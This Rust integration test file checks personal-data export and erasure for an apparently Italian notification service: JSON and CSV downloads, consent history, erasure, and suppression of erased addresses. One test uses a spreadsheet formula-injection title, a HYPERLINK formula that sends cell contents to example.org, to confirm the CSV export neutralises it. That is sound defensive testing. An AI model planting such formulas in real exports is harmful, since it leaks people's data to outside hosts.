// SPDX-License-Identifier: EUPL-1.2
//! What is held about a person: they take all of it along, and have it erased at once.

use std::collections::BTreeSet;

use axum::http::StatusCode;
use chrono::TimeDelta;
use informa::domain::bounce::SuppressionReason;
use informa::domain::ids::SubscriberId;
use informa::domain::profile::Frequency;
use informa::domain::subscriber::SubscriberStatus;
use informa::services::ask_to_subscribe::{add_own_mailbox, ask_to_subscribe};
use informa::services::compose_digests::compose_digests;
use informa::services::erase_person::erase_person;
use informa::services::forget_people::forget_people;
use informa::services::import_subscribers::import_subscribers;
use informa::services::move_mailbox::ask_to_move;
use informa::services::personal_data::read_personal_data;
use informa::services::private_feeds::renew_feeds;
use informa::services::read_inbox::mark_read;
use informa::services::read_status::read_status;
use informa::services::remove_target::remove_target;
use informa::services::save_for_later::save_for_later;
use informa::services::save_profile::{mute_opportunity, remove_profile, save_profile};
use informa::services::send_letters::send_letters;
use informa::services::send_sign_in_link::send_link_to_browser;
use informa::services::unsubscribe::leave_service;
use informa::storage::{consents, inbox, subscribers, targets};
use serde_json::{Value, json};

use crate::support::app::TestApp;
use crate::support::builders::{CONSENT, a_call, a_citizen, an_operator};
use crate::support::full_life::{ADDED, NAME, NEXT, OWN, a_full_life, leading_to_people};
use crate::support::on_both_engines;
use crate::support::reader::Reader;
use crate::support::rows;
use crate::support::smtp_receiver::Stage;

on_both_engines! {
    the_file_holds_everything_that_was_chosen_and_told,
    nothing_that_leads_to_a_person_is_left_out,
    everything_comes_as_a_table_too,
    what_was_only_asked_for_is_shown_alike_whosever_it_is,
    whoever_left_still_reads_what_they_were_sent,
    the_notifications_come_as_a_table_too,
    a_title_is_no_formula_of_a_spreadsheet,
    nobody_reads_it_without_being_signed_in,
    erasing_is_asked_first_and_signs_out,
    nothing_personal_is_left_after_erasing,
    what_was_owed_is_not_sent_after_erasing,
    a_last_mail_says_that_it_is_done_to_who_reads_the_mailbox,
    a_word_that_nobody_takes_is_forgotten_after_two_days,
    no_file_brings_an_erased_address_back,
    an_erased_address_can_subscribe_anew,
    each_consent_is_given_and_withdrawn_on_its_own,
    no_table_knows_anything_of_who_was_erased,
    only_a_mailbox_that_was_proved_is_kept_from_files,
}

async fn last_person(app: &TestApp) -> SubscriberId {
    let mut transaction = app.database.read().await.unwrap();
    subscribers::last_id(&mut transaction).await.unwrap()
}

async fn the_file_holds_everything_that_was_chosen_and_told(app: &TestApp) {
    let person = a_citizen()
        .in_areas(&["016024"])
        .following(&["environment"])
        .aged("25-29");
    let mut reader = Reader::of_person(app, &person).await;
    let call = app
        .publish(&a_call().about(&["environment"]).titled("Orti di quartiere"))
        .await;
    app.run_jobs().await;
    save_for_later(app, last_person(app).await, call.id).await.unwrap();
    let answer = reader.open("/preferenze/dati.json").await;
    assert_eq!(answer.status, StatusCode::OK);
    assert_eq!(
        answer.header("content-disposition"),
        "attachment; filename=\"informa.json\""
    );
    let data: Value = serde_json::from_str(&answer.text).unwrap();
    let profile = &data["profiles"][0];
    assert_eq!(data["profiles"].as_array().unwrap().len(), 1);
    assert_eq!(
        (&profile["kind"], &profile["age_band"]),
        (&json!("citizen"), &json!("25-29"))
    );
    assert_eq!(profile["areas"], json!(["016024"]));
    assert_eq!(
        profile["topics"],
        json!([{"topic": "environment", "frequency": null, "channels": null}])
    );
    let saved = json!([{"url": app.urls.opportunity(&call), "frequency": null, "channels": null}]);
    assert_eq!(profile["saved"], saved);
    let target = &data["targets"][0];
    assert_eq!(
        (&target["channel"], &target["address"], &target["status"]),
        (&json!("email"), &json!(person.address().as_str()), &json!("active"))
    );
    assert_eq!(data["reminder_days"], json!([1, 7]));
    let consents = data["consents"].as_array().unwrap();
    let actions: Vec<&Value> = consents.iter().map(|it| &it["action"]).collect();
    assert_eq!(actions, [&json!("asked"), &json!("given")]);
    assert!(
        consents[1]["text"].as_str().unwrap().contains("avvisi"),
        "the words agreed to"
    );
    let line = &data["inbox"][0];
    assert_eq!(
        (&line["title"], &line["saved"]),
        (&json!("Orti di quartiere"), &json!(true))
    );
    assert_eq!(line["url"], json!(app.urls.opportunity(&call)));
}

/// Every table with a column that leads to a person, and where the file tells what is in it. A table that is not here has to
/// be added, with its place in the file.
const TOLD: [(&str, &str); 24] = [
    ("consents", "/consents/0/text"),
    ("follow_ups", "/follow_ups/0/why"),
    ("follows", "/profiles/0/topics/0/topic"),
    ("lessened_follows", "/profiles/0/told_less_of/0"),
    ("links", "/open_links/0/purpose"),
    ("mailbox_moves", "/asked_address"),
    ("mailbox_requests", "/waiting_addresses/0/address"),
    ("matches", "/inbox/0/title"),
    ("muted_opportunities", "/profiles/0/muted_opportunities/0"),
    ("muted_sources", "/profiles/0/muted_sources/0"),
    ("muted_topics", "/profiles/0/muted_topics/0"),
    ("notifications", "/messages/0/state"),
    // What was written to them alone is told as messages.
    ("occasions", "/messages/0/why"),
    ("profile_areas", "/profiles/0/areas/0"),
    ("profile_sectors", "/profiles/1/sectors/0"),
    ("profiles", "/profiles/0/chosen_at"),
    ("read_opportunities", "/read_elsewhere/0"),
    ("relevance_answers", "/relevance_answers/0/answer"),
    ("removed_profiles", "/removed_profiles/0/kind"),
    ("saved_opportunities", "/profiles/0/saved/0/frequency"),
    ("sessions", "/signed_in_until/0"),
    ("strikes", "/targets/0/failures/failed_at/0"),
    ("subscribers", "/subscribed_at"),
    ("targets", "/targets/0/address"),
];

async fn nothing_that_leads_to_a_person_is_left_out(app: &TestApp) {
    let mut maria = a_full_life(app).await;
    let leading: BTreeSet<String> = leading_to_people(app)
        .await
        .into_iter()
        .map(|(table, _)| table)
        .collect();
    // These lead to them by their own number, or by what a session says.
    let beside = ["subscribers", "sessions"].map(str::to_owned);
    let told: BTreeSet<String> = TOLD.iter().map(|(table, _)| (*table).to_owned()).collect();
    assert_eq!(leading.into_iter().chain(beside).collect::<BTreeSet<_>>(), told);

    let answer = maria.reader.open("/preferenze/dati.json").await;
    let data: Value = serde_json::from_str(&answer.text).unwrap();
    for (table, place) in TOLD {
        let found = data.pointer(place).filter(|it| !it.is_null() && **it != json!(""));
        assert!(
            found.is_some(),
            "of {table} nothing is told at {place}: {}",
            answer.text
        );
    }
    assert_eq!(data["asked_address"], json!(NEXT));
    let waiting: Vec<&Value> = data["waiting_addresses"]
        .as_array()
        .unwrap()
        .iter()
        .map(|it| &it["address"])
        .collect();
    assert_eq!(waiting, [ADDED]);
    assert_eq!(data["removed_profiles"][0]["kind"], json!("authority"));
    assert_eq!(data["read_elsewhere"], json!([app.urls.opportunity(&maria.elsewhere)]));
    let saved = json!({"url": app.urls.opportunity(&maria.call), "frequency": "daily", "channels": ["email"]});
    assert_eq!(data["profiles"][0]["saved"], json!([saved]));
    let whys: BTreeSet<&str> = data["messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|it| it["why"].as_str().unwrap())
        .collect();
    for why in ["published", "confirmation", "sign_in", "test", "mailbox_move"] {
        assert!(whys.contains(why), "{why} is none of {whys:?}");
    }
    let browsers = data["targets"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|it| it["channel"] == "web_push");
    let told: Vec<i64> = browsers.map(|it| it["told_in_week"].as_i64().unwrap()).collect();
    assert!(told.len() == 2 && told.iter().all(|count| *count > 0), "{told:?}");
    let link = &data["open_links"][0];
    assert!(
        link["expires_at"].is_string() && link["made_at"].is_string() && link["to"].is_string(),
        "{link}"
    );
    let mut transaction = app.database.read().await.unwrap();
    let code = app.relay.only_mail_to(OWN).code_after("/accedi/");
    assert!(!answer.text.contains(&code), "the code of a link opens a door");
    let feeds = inbox::feed_number(&mut transaction, maria.id).await.unwrap().unwrap();
    assert!(!answer.text.contains(&feeds.to_string()));
}

async fn everything_comes_as_a_table_too(app: &TestApp) {
    let mut maria = a_full_life(app).await;
    let page = maria.reader.open("/preferenze").await;
    let links = page.texts("#your-data ~ p.actions a");
    assert_eq!(
        links,
        [
            "Scarica tutto (JSON, per programmi)",
            "Scarica tutto (CSV, per fogli di calcolo)",
            "Scarica l'elenco dei tuoi avvisi (CSV)"
        ]
    );
    let answer = maria.reader.open("/preferenze/dati.csv").await;
    assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
    assert_eq!(
        answer.header("content-disposition"),
        "attachment; filename=\"informa.csv\""
    );
    let text = answer.text.strip_prefix('\u{feff}').unwrap();
    let mut table = csv::Reader::from_reader(text.as_bytes());
    assert_eq!(table.headers().unwrap(), vec!["Parte", "Numero", "Che cosa", "Valore"]);
    let rows: Vec<csv::StringRecord> = table.records().map(|row| row.unwrap()).collect();
    let has = |expected: [&str; 4]| rows.iter().any(|row| *row == expected.to_vec());
    for expected in [
        ["In generale", "", "lingua", "it"],
        ["Profili", "1", "fascia di età", "25-29"],
        ["Profili", "1", "argomenti 2 · frequenza", "weekly"],
        ["Dove ti avvisiamo", "1", "indirizzo", OWN],
        ["Dove ti avvisiamo", "2", "nome", NAME],
        ["Indirizzi in attesa di conferma", "1", "indirizzo", ADDED],
        ["Profili che hai tolto", "1", "tipo", "authority"],
        ["Le tue risposte", "1", "risposta", "useful"],
    ] {
        assert!(has(expected), "{expected:?} is not in\n{text}");
    }
    let json = maria.reader.open("/preferenze/dati.json").await;
    let data: Value = serde_json::from_str(&json.text).unwrap();
    let messages = data["messages"].as_array().unwrap().len();
    let told: BTreeSet<&str> = rows
        .iter()
        .filter(|row| &row[0] == "Messaggi")
        .map(|row| &row[1])
        .collect();
    assert_eq!(told.len(), messages, "each message is there");
    let is_code = |name: &str| name.contains('_') || name.starts_with("data-");
    let unnamed: Vec<_> = rows.iter().filter(|row| is_code(&row[0]) || is_code(&row[2])).collect();
    assert!(unnamed.is_empty(), "not in words: {unnamed:?}");
}

async fn what_was_only_asked_for_is_shown_alike_whosever_it_is(app: &TestApp) {
    app.subscribe(&a_citizen().called("altra@example.org")).await;
    let (id, browser) = app.subscribe_browser(&a_citizen().by(&["web_push"])).await;
    for address in ["altra@example.org", "libera@example.org"] {
        let address = a_citizen().called(address).address();
        add_own_mailbox(app, id, &address).await.unwrap();
    }
    send_link_to_browser(app, &browser.endpoint, &browser.auth)
        .await
        .unwrap();
    app.run_jobs().await;
    let message = app.push_service.messages_to(&browser).pop().unwrap();
    let code = message.navigate().rsplit('/').next().unwrap().to_owned();
    let mut reader = Reader::new(app);
    reader.open(&format!("/accedi/{code}")).await;
    reader.send(&format!("/accedi/{code}"), &[]).await;
    let page = reader.open("/preferenze").await;
    assert_eq!(
        page.texts("#waiting strong"),
        ["altra@example.org", "libera@example.org"]
    );
    let answer = reader.open("/preferenze/dati.json").await;
    let data: Value = serde_json::from_str(&answer.text).unwrap();
    assert_eq!(data["waiting_addresses"].as_array().unwrap().len(), 2);
    for address in ["altra", "libera"] {
        let times = answer.text.matches(address).count();
        assert_eq!(times, 1, "nothing more is told of {address}: {}", answer.text);
    }
    app.advance(TimeDelta::days(31));
    forget_people(app).await.unwrap();
    let data = serde_json::to_value(read_personal_data(app, id).await.unwrap()).unwrap();
    assert_eq!(
        data["waiting_addresses"],
        json!([]),
        "as long as a request that nobody confirms"
    );
}

async fn whoever_left_still_reads_what_they_were_sent(app: &TestApp) {
    let person = app.subscribe(&a_citizen()).await;
    app.publish(&a_call()).await;
    ask_to_move(app, person, &a_citizen().called(NEXT).address())
        .await
        .unwrap();
    app.run_jobs().await;
    leave_service(app, person).await.unwrap();
    let data = read_personal_data(app, person).await.unwrap();
    let data = serde_json::to_value(&data).unwrap();
    let messages = data["messages"].as_array().unwrap();
    let whys: Vec<&str> = messages.iter().map(|it| it["why"].as_str().unwrap()).collect();
    assert!(
        whys.contains(&"published") && whys.contains(&"confirmation"),
        "{whys:?}"
    );
}

async fn the_notifications_come_as_a_table_too(app: &TestApp) {
    let mut reader = Reader::of_person(app, &a_citizen()).await;
    app.publish(&a_call().titled("Bando \"Sole\", terza edizione")).await;
    app.advance(TimeDelta::hours(1));
    app.publish(&a_call().titled("Orti di quartiere")).await;
    app.run_jobs().await;
    let answer = reader.open("/preferenze/avvisi.csv").await;
    assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
    let text = answer
        .text
        .strip_prefix('\u{feff}')
        .expect("what a spreadsheet knows UTF-8 by");
    let mut table = csv::Reader::from_reader(text.as_bytes());
    assert_eq!(
        table.headers().unwrap(),
        vec!["Titolo", "Indirizzo", "Dal", "Salvato", "Letto"]
    );
    let titles: Vec<String> = table.records().map(|row| row.unwrap()[0].to_owned()).collect();
    assert_eq!(titles, ["Orti di quartiere", "Bando \"Sole\", terza edizione"]);
}

async fn a_title_is_no_formula_of_a_spreadsheet(app: &TestApp) {
    let mut reader = Reader::of_person(app, &a_citizen()).await;
    let formula = "=HYPERLINK(\"http://example.org/?\"&A2, \"Leggi\")";
    app.publish(&a_call().titled(formula)).await;
    app.run_jobs().await;
    let answer = reader.open("/preferenze/avvisi.csv").await;
    let mut table = csv::Reader::from_reader(answer.text.as_bytes());
    let row = table.records().next().unwrap().unwrap();
    assert_eq!(row[0], format!("'{formula}"), "it is shown and not calculated");
}

async fn nobody_reads_it_without_being_signed_in(app: &TestApp) {
    app.subscribe(&a_citizen()).await;
    for path in [
        "/preferenze/dati.json",
        "/preferenze/dati.csv",
        "/preferenze/avvisi.csv",
        "/preferenze/cancella",
    ] {
        let answer = Reader::new(app).open(path).await;
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{path}");
        assert!(
            answer.location().starts_with("/accedi"),
            "{path}: {}",
            answer.location()
        );
    }
}

async fn erasing_is_asked_first_and_signs_out(app: &TestApp) {
    let mut reader = Reader::of_person(app, &a_citizen()).await;
    let person = last_person(app).await;
    let asked = reader.open("/preferenze/cancella").await;
    assert!(asked.words("main").contains("Cancellare tutti i tuoi dati?"));
    let status = async || {
        let mut transaction = app.database.read().await.unwrap();
        subscribers::find(&mut transaction, person)
            .await
            .unwrap()
            .unwrap()
            .status
    };
    assert_eq!(status().await, SubscriberStatus::Active, "asking erases nothing");
    let done = reader.send("/preferenze/cancella", &[]).await;
    assert_eq!(done.location(), "/cancellato");
    assert!(
        reader
            .open("/cancellato")
            .await
            .words("main")
            .contains("Dati cancellati")
    );
    assert_eq!(status().await, SubscriberStatus::Left);
    assert!(
        reader.open("/avvisi").await.location().starts_with("/accedi"),
        "signed out"
    );
}

async fn nothing_personal_is_left_after_erasing(app: &TestApp) {
    let person = a_citizen().in_areas(&["016024"]).aged("25-29");
    let (id, browser) = app.subscribe_browser(&person).await;
    let mut reader = Reader::of_person(app, &a_citizen().called("maria.rossi@example.org")).await;
    let maria = last_person(app).await;
    let call = app.publish(&a_call()).await;
    app.run_jobs().await;
    save_for_later(app, maria, call.id).await.unwrap();
    mark_read(app, maria, call.id).await.unwrap();
    renew_feeds(app, maria).await.unwrap();
    let told = sent(app).await;
    let before = rows::everything(&app.database).await;
    assert!(before.contains("maria.rossi@example.org") && before.contains(&browser.endpoint));
    reader.send("/preferenze/cancella", &[]).await;
    erase_person(app, id).await.unwrap();
    app.relay.forget();
    send_letters(app).await.unwrap();
    assert_eq!(app.relay.mails().len(), 1, "the word that it is done");
    let after = rows::everything(&app.database).await;
    for personal in ["maria.rossi", &browser.endpoint, &browser.p256dh, &browser.auth] {
        assert!(!after.contains(personal), "{personal} is still held");
    }
    for table in [
        "profiles",
        "profile_areas",
        "follows",
        "saved_opportunities",
        "read_opportunities",
        "matches",
        "sessions",
    ] {
        let count = rows::integers(&app.database, &format!("select count(*) from {table}")).await[0][0];
        assert_eq!(count, 0, "{table}");
    }
    let mut transaction = app.database.read().await.unwrap();
    let proof = consents::list(&mut transaction, maria).await.unwrap();
    let actions: Vec<&str> = proof.iter().map(|(_, action, ..)| action.as_str()).collect();
    assert_eq!(actions, ["asked", "given", "withdrawn"], "the proof stays");
    drop(transaction);
    assert_eq!(sent(app).await, told, "the numbers stay true");
}

/// How many messages were sent, as it was counted.
async fn sent(app: &TestApp) -> u64 {
    let status = read_status(app).await.unwrap();
    let of = |channel: &str| status.notifications.get(channel).and_then(|counts| counts.get("sent"));
    ["email", "web_push"]
        .into_iter()
        .filter_map(of)
        .map(|count| u64::try_from(*count).unwrap())
        .sum()
}

async fn what_was_owed_is_not_sent_after_erasing(app: &TestApp) {
    let person = app.subscribe(&a_citizen().told("daily")).await;
    let other = app
        .subscribe(&a_citizen().called("altra@example.org").told("daily"))
        .await;
    app.publish(&a_call()).await;
    app.run_jobs().await;
    app.relay.forget();
    erase_person(app, person).await.unwrap();
    app.advance(TimeDelta::days(2));
    compose_digests(app, Frequency::Daily).await.unwrap();
    app.run_jobs().await;
    let to: Vec<String> = app.relay.mails().iter().map(|mail| mail.recipient.clone()).collect();
    assert_eq!(to, ["altra@example.org"]);
    erase_person(app, other).await.unwrap();
    erase_person(app, other).await.unwrap();
}

async fn a_last_mail_says_that_it_is_done_to_who_reads_the_mailbox(app: &TestApp) {
    let person = app.subscribe(&a_citizen().called("maria.rossi@example.org")).await;
    app.relay.forget();
    erase_person(app, person).await.unwrap();
    erase_person(app, person).await.unwrap();
    app.relay
        .refuse("maria.rossi@example.org", Stage::Recipient, "451 4.3.0 later");
    assert_eq!(send_letters(app).await.unwrap(), 0);
    app.relay.accept("maria.rossi@example.org");
    app.advance(TimeDelta::hours(1));
    assert_eq!(send_letters(app).await.unwrap(), 1);
    let mail = app.relay.only_mail_to("maria.rossi@example.org");
    assert_eq!(
        mail.header("subject").as_deref(),
        Some("I tuoi dati sono stati cancellati")
    );
    assert!(mail.text().contains("Questa è l'ultima e-mail che ricevi da noi."));
    assert_eq!(mail.header("list-unsubscribe"), None, "there is nothing left to stop");
    assert!(!rows::everything(&app.database).await.contains("maria.rossi"));

    let stranger = a_citizen().called("mai.confermato@example.org");
    let request = stranger.request(&app.vocabulary(), app.now());
    ask_to_subscribe(app, &request).await.unwrap();
    app.run_jobs().await;
    erase_person(app, last_person(app).await).await.unwrap();
    assert_eq!(send_letters(app).await.unwrap(), 0, "nobody has proved to read it");
}

async fn a_word_that_nobody_takes_is_forgotten_after_two_days(app: &TestApp) {
    let person = app.subscribe(&a_citizen().called("maria.rossi@example.org")).await;
    app.relay
        .refuse("maria.rossi@example.org", Stage::Recipient, "451 4.3.0 later");
    erase_person(app, person).await.unwrap();
    for _ in 0..26 {
        send_letters(app).await.unwrap();
        app.advance(TimeDelta::hours(2));
    }
    assert!(!rows::everything(&app.database).await.contains("maria.rossi"));
}

async fn no_file_brings_an_erased_address_back(app: &TestApp) {
    let person = app.subscribe(&a_citizen()).await;
    erase_person(app, person).await.unwrap();
    let line = json!({
        "email": a_citizen().address().as_str().to_uppercase(), "kind": "citizen", "areas": ["016024"],
        "topics": ["environment"],
        "consent": {"at": "2026-06-01T10:00:00Z", "source": "modulo del sito", "text": CONSENT},
    });
    let report = import_subscribers(app, [Ok(line.to_string())].into_iter(), || {})
        .await
        .unwrap();
    assert_eq!((report.lines, report.added), (1, 0));
    app.publish(&a_call()).await;
    app.relay.forget();
    app.run_jobs().await;
    assert_eq!(app.relay.mails().len(), 0);
}

async fn an_erased_address_can_subscribe_anew(app: &TestApp) {
    let person = app.subscribe(&a_citizen()).await;
    erase_person(app, person).await.unwrap();
    let listed = "select 'listed', reason from suppressions";
    let erased = ("listed".to_owned(), SuppressionReason::Erased.code().to_owned());
    assert_eq!(rows::texts(&app.database, listed).await, [erased]);
    let again = app.subscribe(&a_citizen()).await;
    assert_ne!(again, person, "somebody new, who has nothing of before");
    assert_eq!(rows::texts(&app.database, listed).await, [], "confirming lifts it");
    app.relay.forget();
    app.publish(&a_call()).await;
    app.run_jobs().await;
    assert_eq!(app.relay.mails().len(), 1);
    let mut transaction = app.database.read().await.unwrap();
    let places = targets::list(&mut transaction, again).await.unwrap();
    assert_eq!(places.len(), 1);
}

async fn each_consent_is_given_and_withdrawn_on_its_own(app: &TestApp) {
    let mut reader = Reader::of_person(app, &a_citizen()).await;
    let page = reader.open("/preferenze/consensi").await;
    assert_eq!(
        page.attributes("button[name=surveys]", "value"),
        ["yes"],
        "nothing is given that was not"
    );
    for (wanted, offered) in [("yes", "no"), ("yes", "no"), ("no", "yes")] {
        reader.send("/preferenze/consensi", &[("surveys", wanted)]).await;
        let page = reader.open("/preferenze/consensi").await;
        assert_eq!(page.attributes("button[name=surveys]", "value"), [offered]);
    }
    let person = last_person(app).await;
    let mut transaction = app.database.read().await.unwrap();
    let lines = consents::list(&mut transaction, person).await.unwrap();
    let lines: Vec<(&str, &str)> = lines
        .iter()
        .map(|(purpose, action, ..)| (purpose.as_str(), action.as_str()))
        .collect();
    let asked_and_given = [("notifications", "asked"), ("notifications", "given")];
    assert_eq!(lines[..2], asked_and_given);
    assert_eq!(
        lines[2..],
        [("surveys", "given"), ("surveys", "withdrawn")],
        "each once"
    );
    let ledger = reader.open("/preferenze/consensi").await.texts("ol.history li");
    assert_eq!(ledger.len(), 4);
    assert!(
        ledger[0].contains("hai ritirato il consenso a ricevere gli inviti"),
        "{ledger:?}"
    );
    let kept = subscribers::find(&mut transaction, person).await.unwrap().unwrap();
    assert_eq!(
        kept.status,
        SubscriberStatus::Active,
        "notifications do not depend on it"
    );
}

async fn no_table_knows_anything_of_who_was_erased(app: &TestApp) {
    let person = a_citizen()
        .in_areas(&["016024"])
        .aged("25-29")
        .called("maria.rossi@example.org");
    let id = app.subscribe(&person).await;
    let call = app.publish(&a_call()).await;
    save_for_later(app, id, call.id).await.unwrap();
    mute_opportunity(app, id, call.id).await.unwrap();
    let business = an_operator().choices(&app.vocabulary());
    let profile = save_profile(app, id, &business).await.unwrap();
    remove_profile(app, id, profile).await.unwrap();
    ask_to_move(app, id, &a_citizen().called("maria.nuova@example.org").address())
        .await
        .unwrap();
    let mut again = person.request(&app.vocabulary(), app.now());
    again.resumes_at = Some("/iscriviti/come?kind=citizen&ages=25-29".to_owned());
    ask_to_subscribe(app, &again).await.unwrap();
    app.run_jobs().await;
    assert!(
        rows::everything(&app.database)
            .await
            .contains("/iscriviti/come?kind=citizen")
    );
    erase_person(app, id).await.unwrap();
    send_letters(app).await.unwrap();
    let after = rows::everything(&app.database).await;
    for personal in ["maria.rossi", "maria.nuova", "/iscriviti/come?"] {
        assert!(!after.contains(personal), "{personal} is still held");
    }
    for of_people in [
        "profiles",
        "profile_areas",
        "profile_sectors",
        "follows",
        "lessened_follows",
        "saved_opportunities",
        "muted_opportunities",
        "muted_topics",
        "muted_sources",
        "removed_profiles",
        "read_opportunities",
        "matches",
        "follow_ups",
        "mailbox_moves",
        "strikes",
        "letters",
        "links where used_at is null or leads_to is not null",
        "sessions",
    ] {
        let count = rows::integers(&app.database, &format!("select count(*) from {of_people}")).await[0][0];
        assert_eq!(count, 0, "{of_people}");
    }
}

async fn only_a_mailbox_that_was_proved_is_kept_from_files(app: &TestApp) {
    let listed = async || rows::integers(&app.database, "select count(*) from suppressions").await[0][0];
    let person = app.subscribe(&a_citizen()).await;
    let strange = a_citizen().called("mai.confermato@example.org");
    add_own_mailbox(app, person, &strange.address()).await.unwrap();
    let removed = a_citizen().called("mai.letto@example.org");
    add_own_mailbox(app, person, &removed.address()).await.unwrap();
    app.run_jobs().await;
    let mut transaction = app.database.read().await.unwrap();
    let mailbox = targets::find_mailbox(&mut transaction, &removed.address()).await;
    let mailbox = mailbox.unwrap().unwrap().id;
    drop(transaction);
    remove_target(app, person, mailbox).await.unwrap();
    assert!(!rows::everything(&app.database).await.contains("mai.letto"), "nobody's");
    erase_person(app, person).await.unwrap();
    assert_eq!(listed().await, 1, "the mailbox that they had confirmed");
    let line = json!({
        "email": "mai.confermato@example.org", "kind": "citizen", "areas": ["016024"], "topics": ["environment"],
        "consent": {"at": "2026-06-01T10:00:00Z", "source": "modulo del sito", "text": CONSENT},
    });
    let report = import_subscribers(app, [Ok(line.to_string())].into_iter(), || {})
        .await
        .unwrap();
    assert_eq!(report.added, 1, "whose address was only typed has lost nothing");
    send_letters(app).await.unwrap();
    app.run_jobs().await;
}
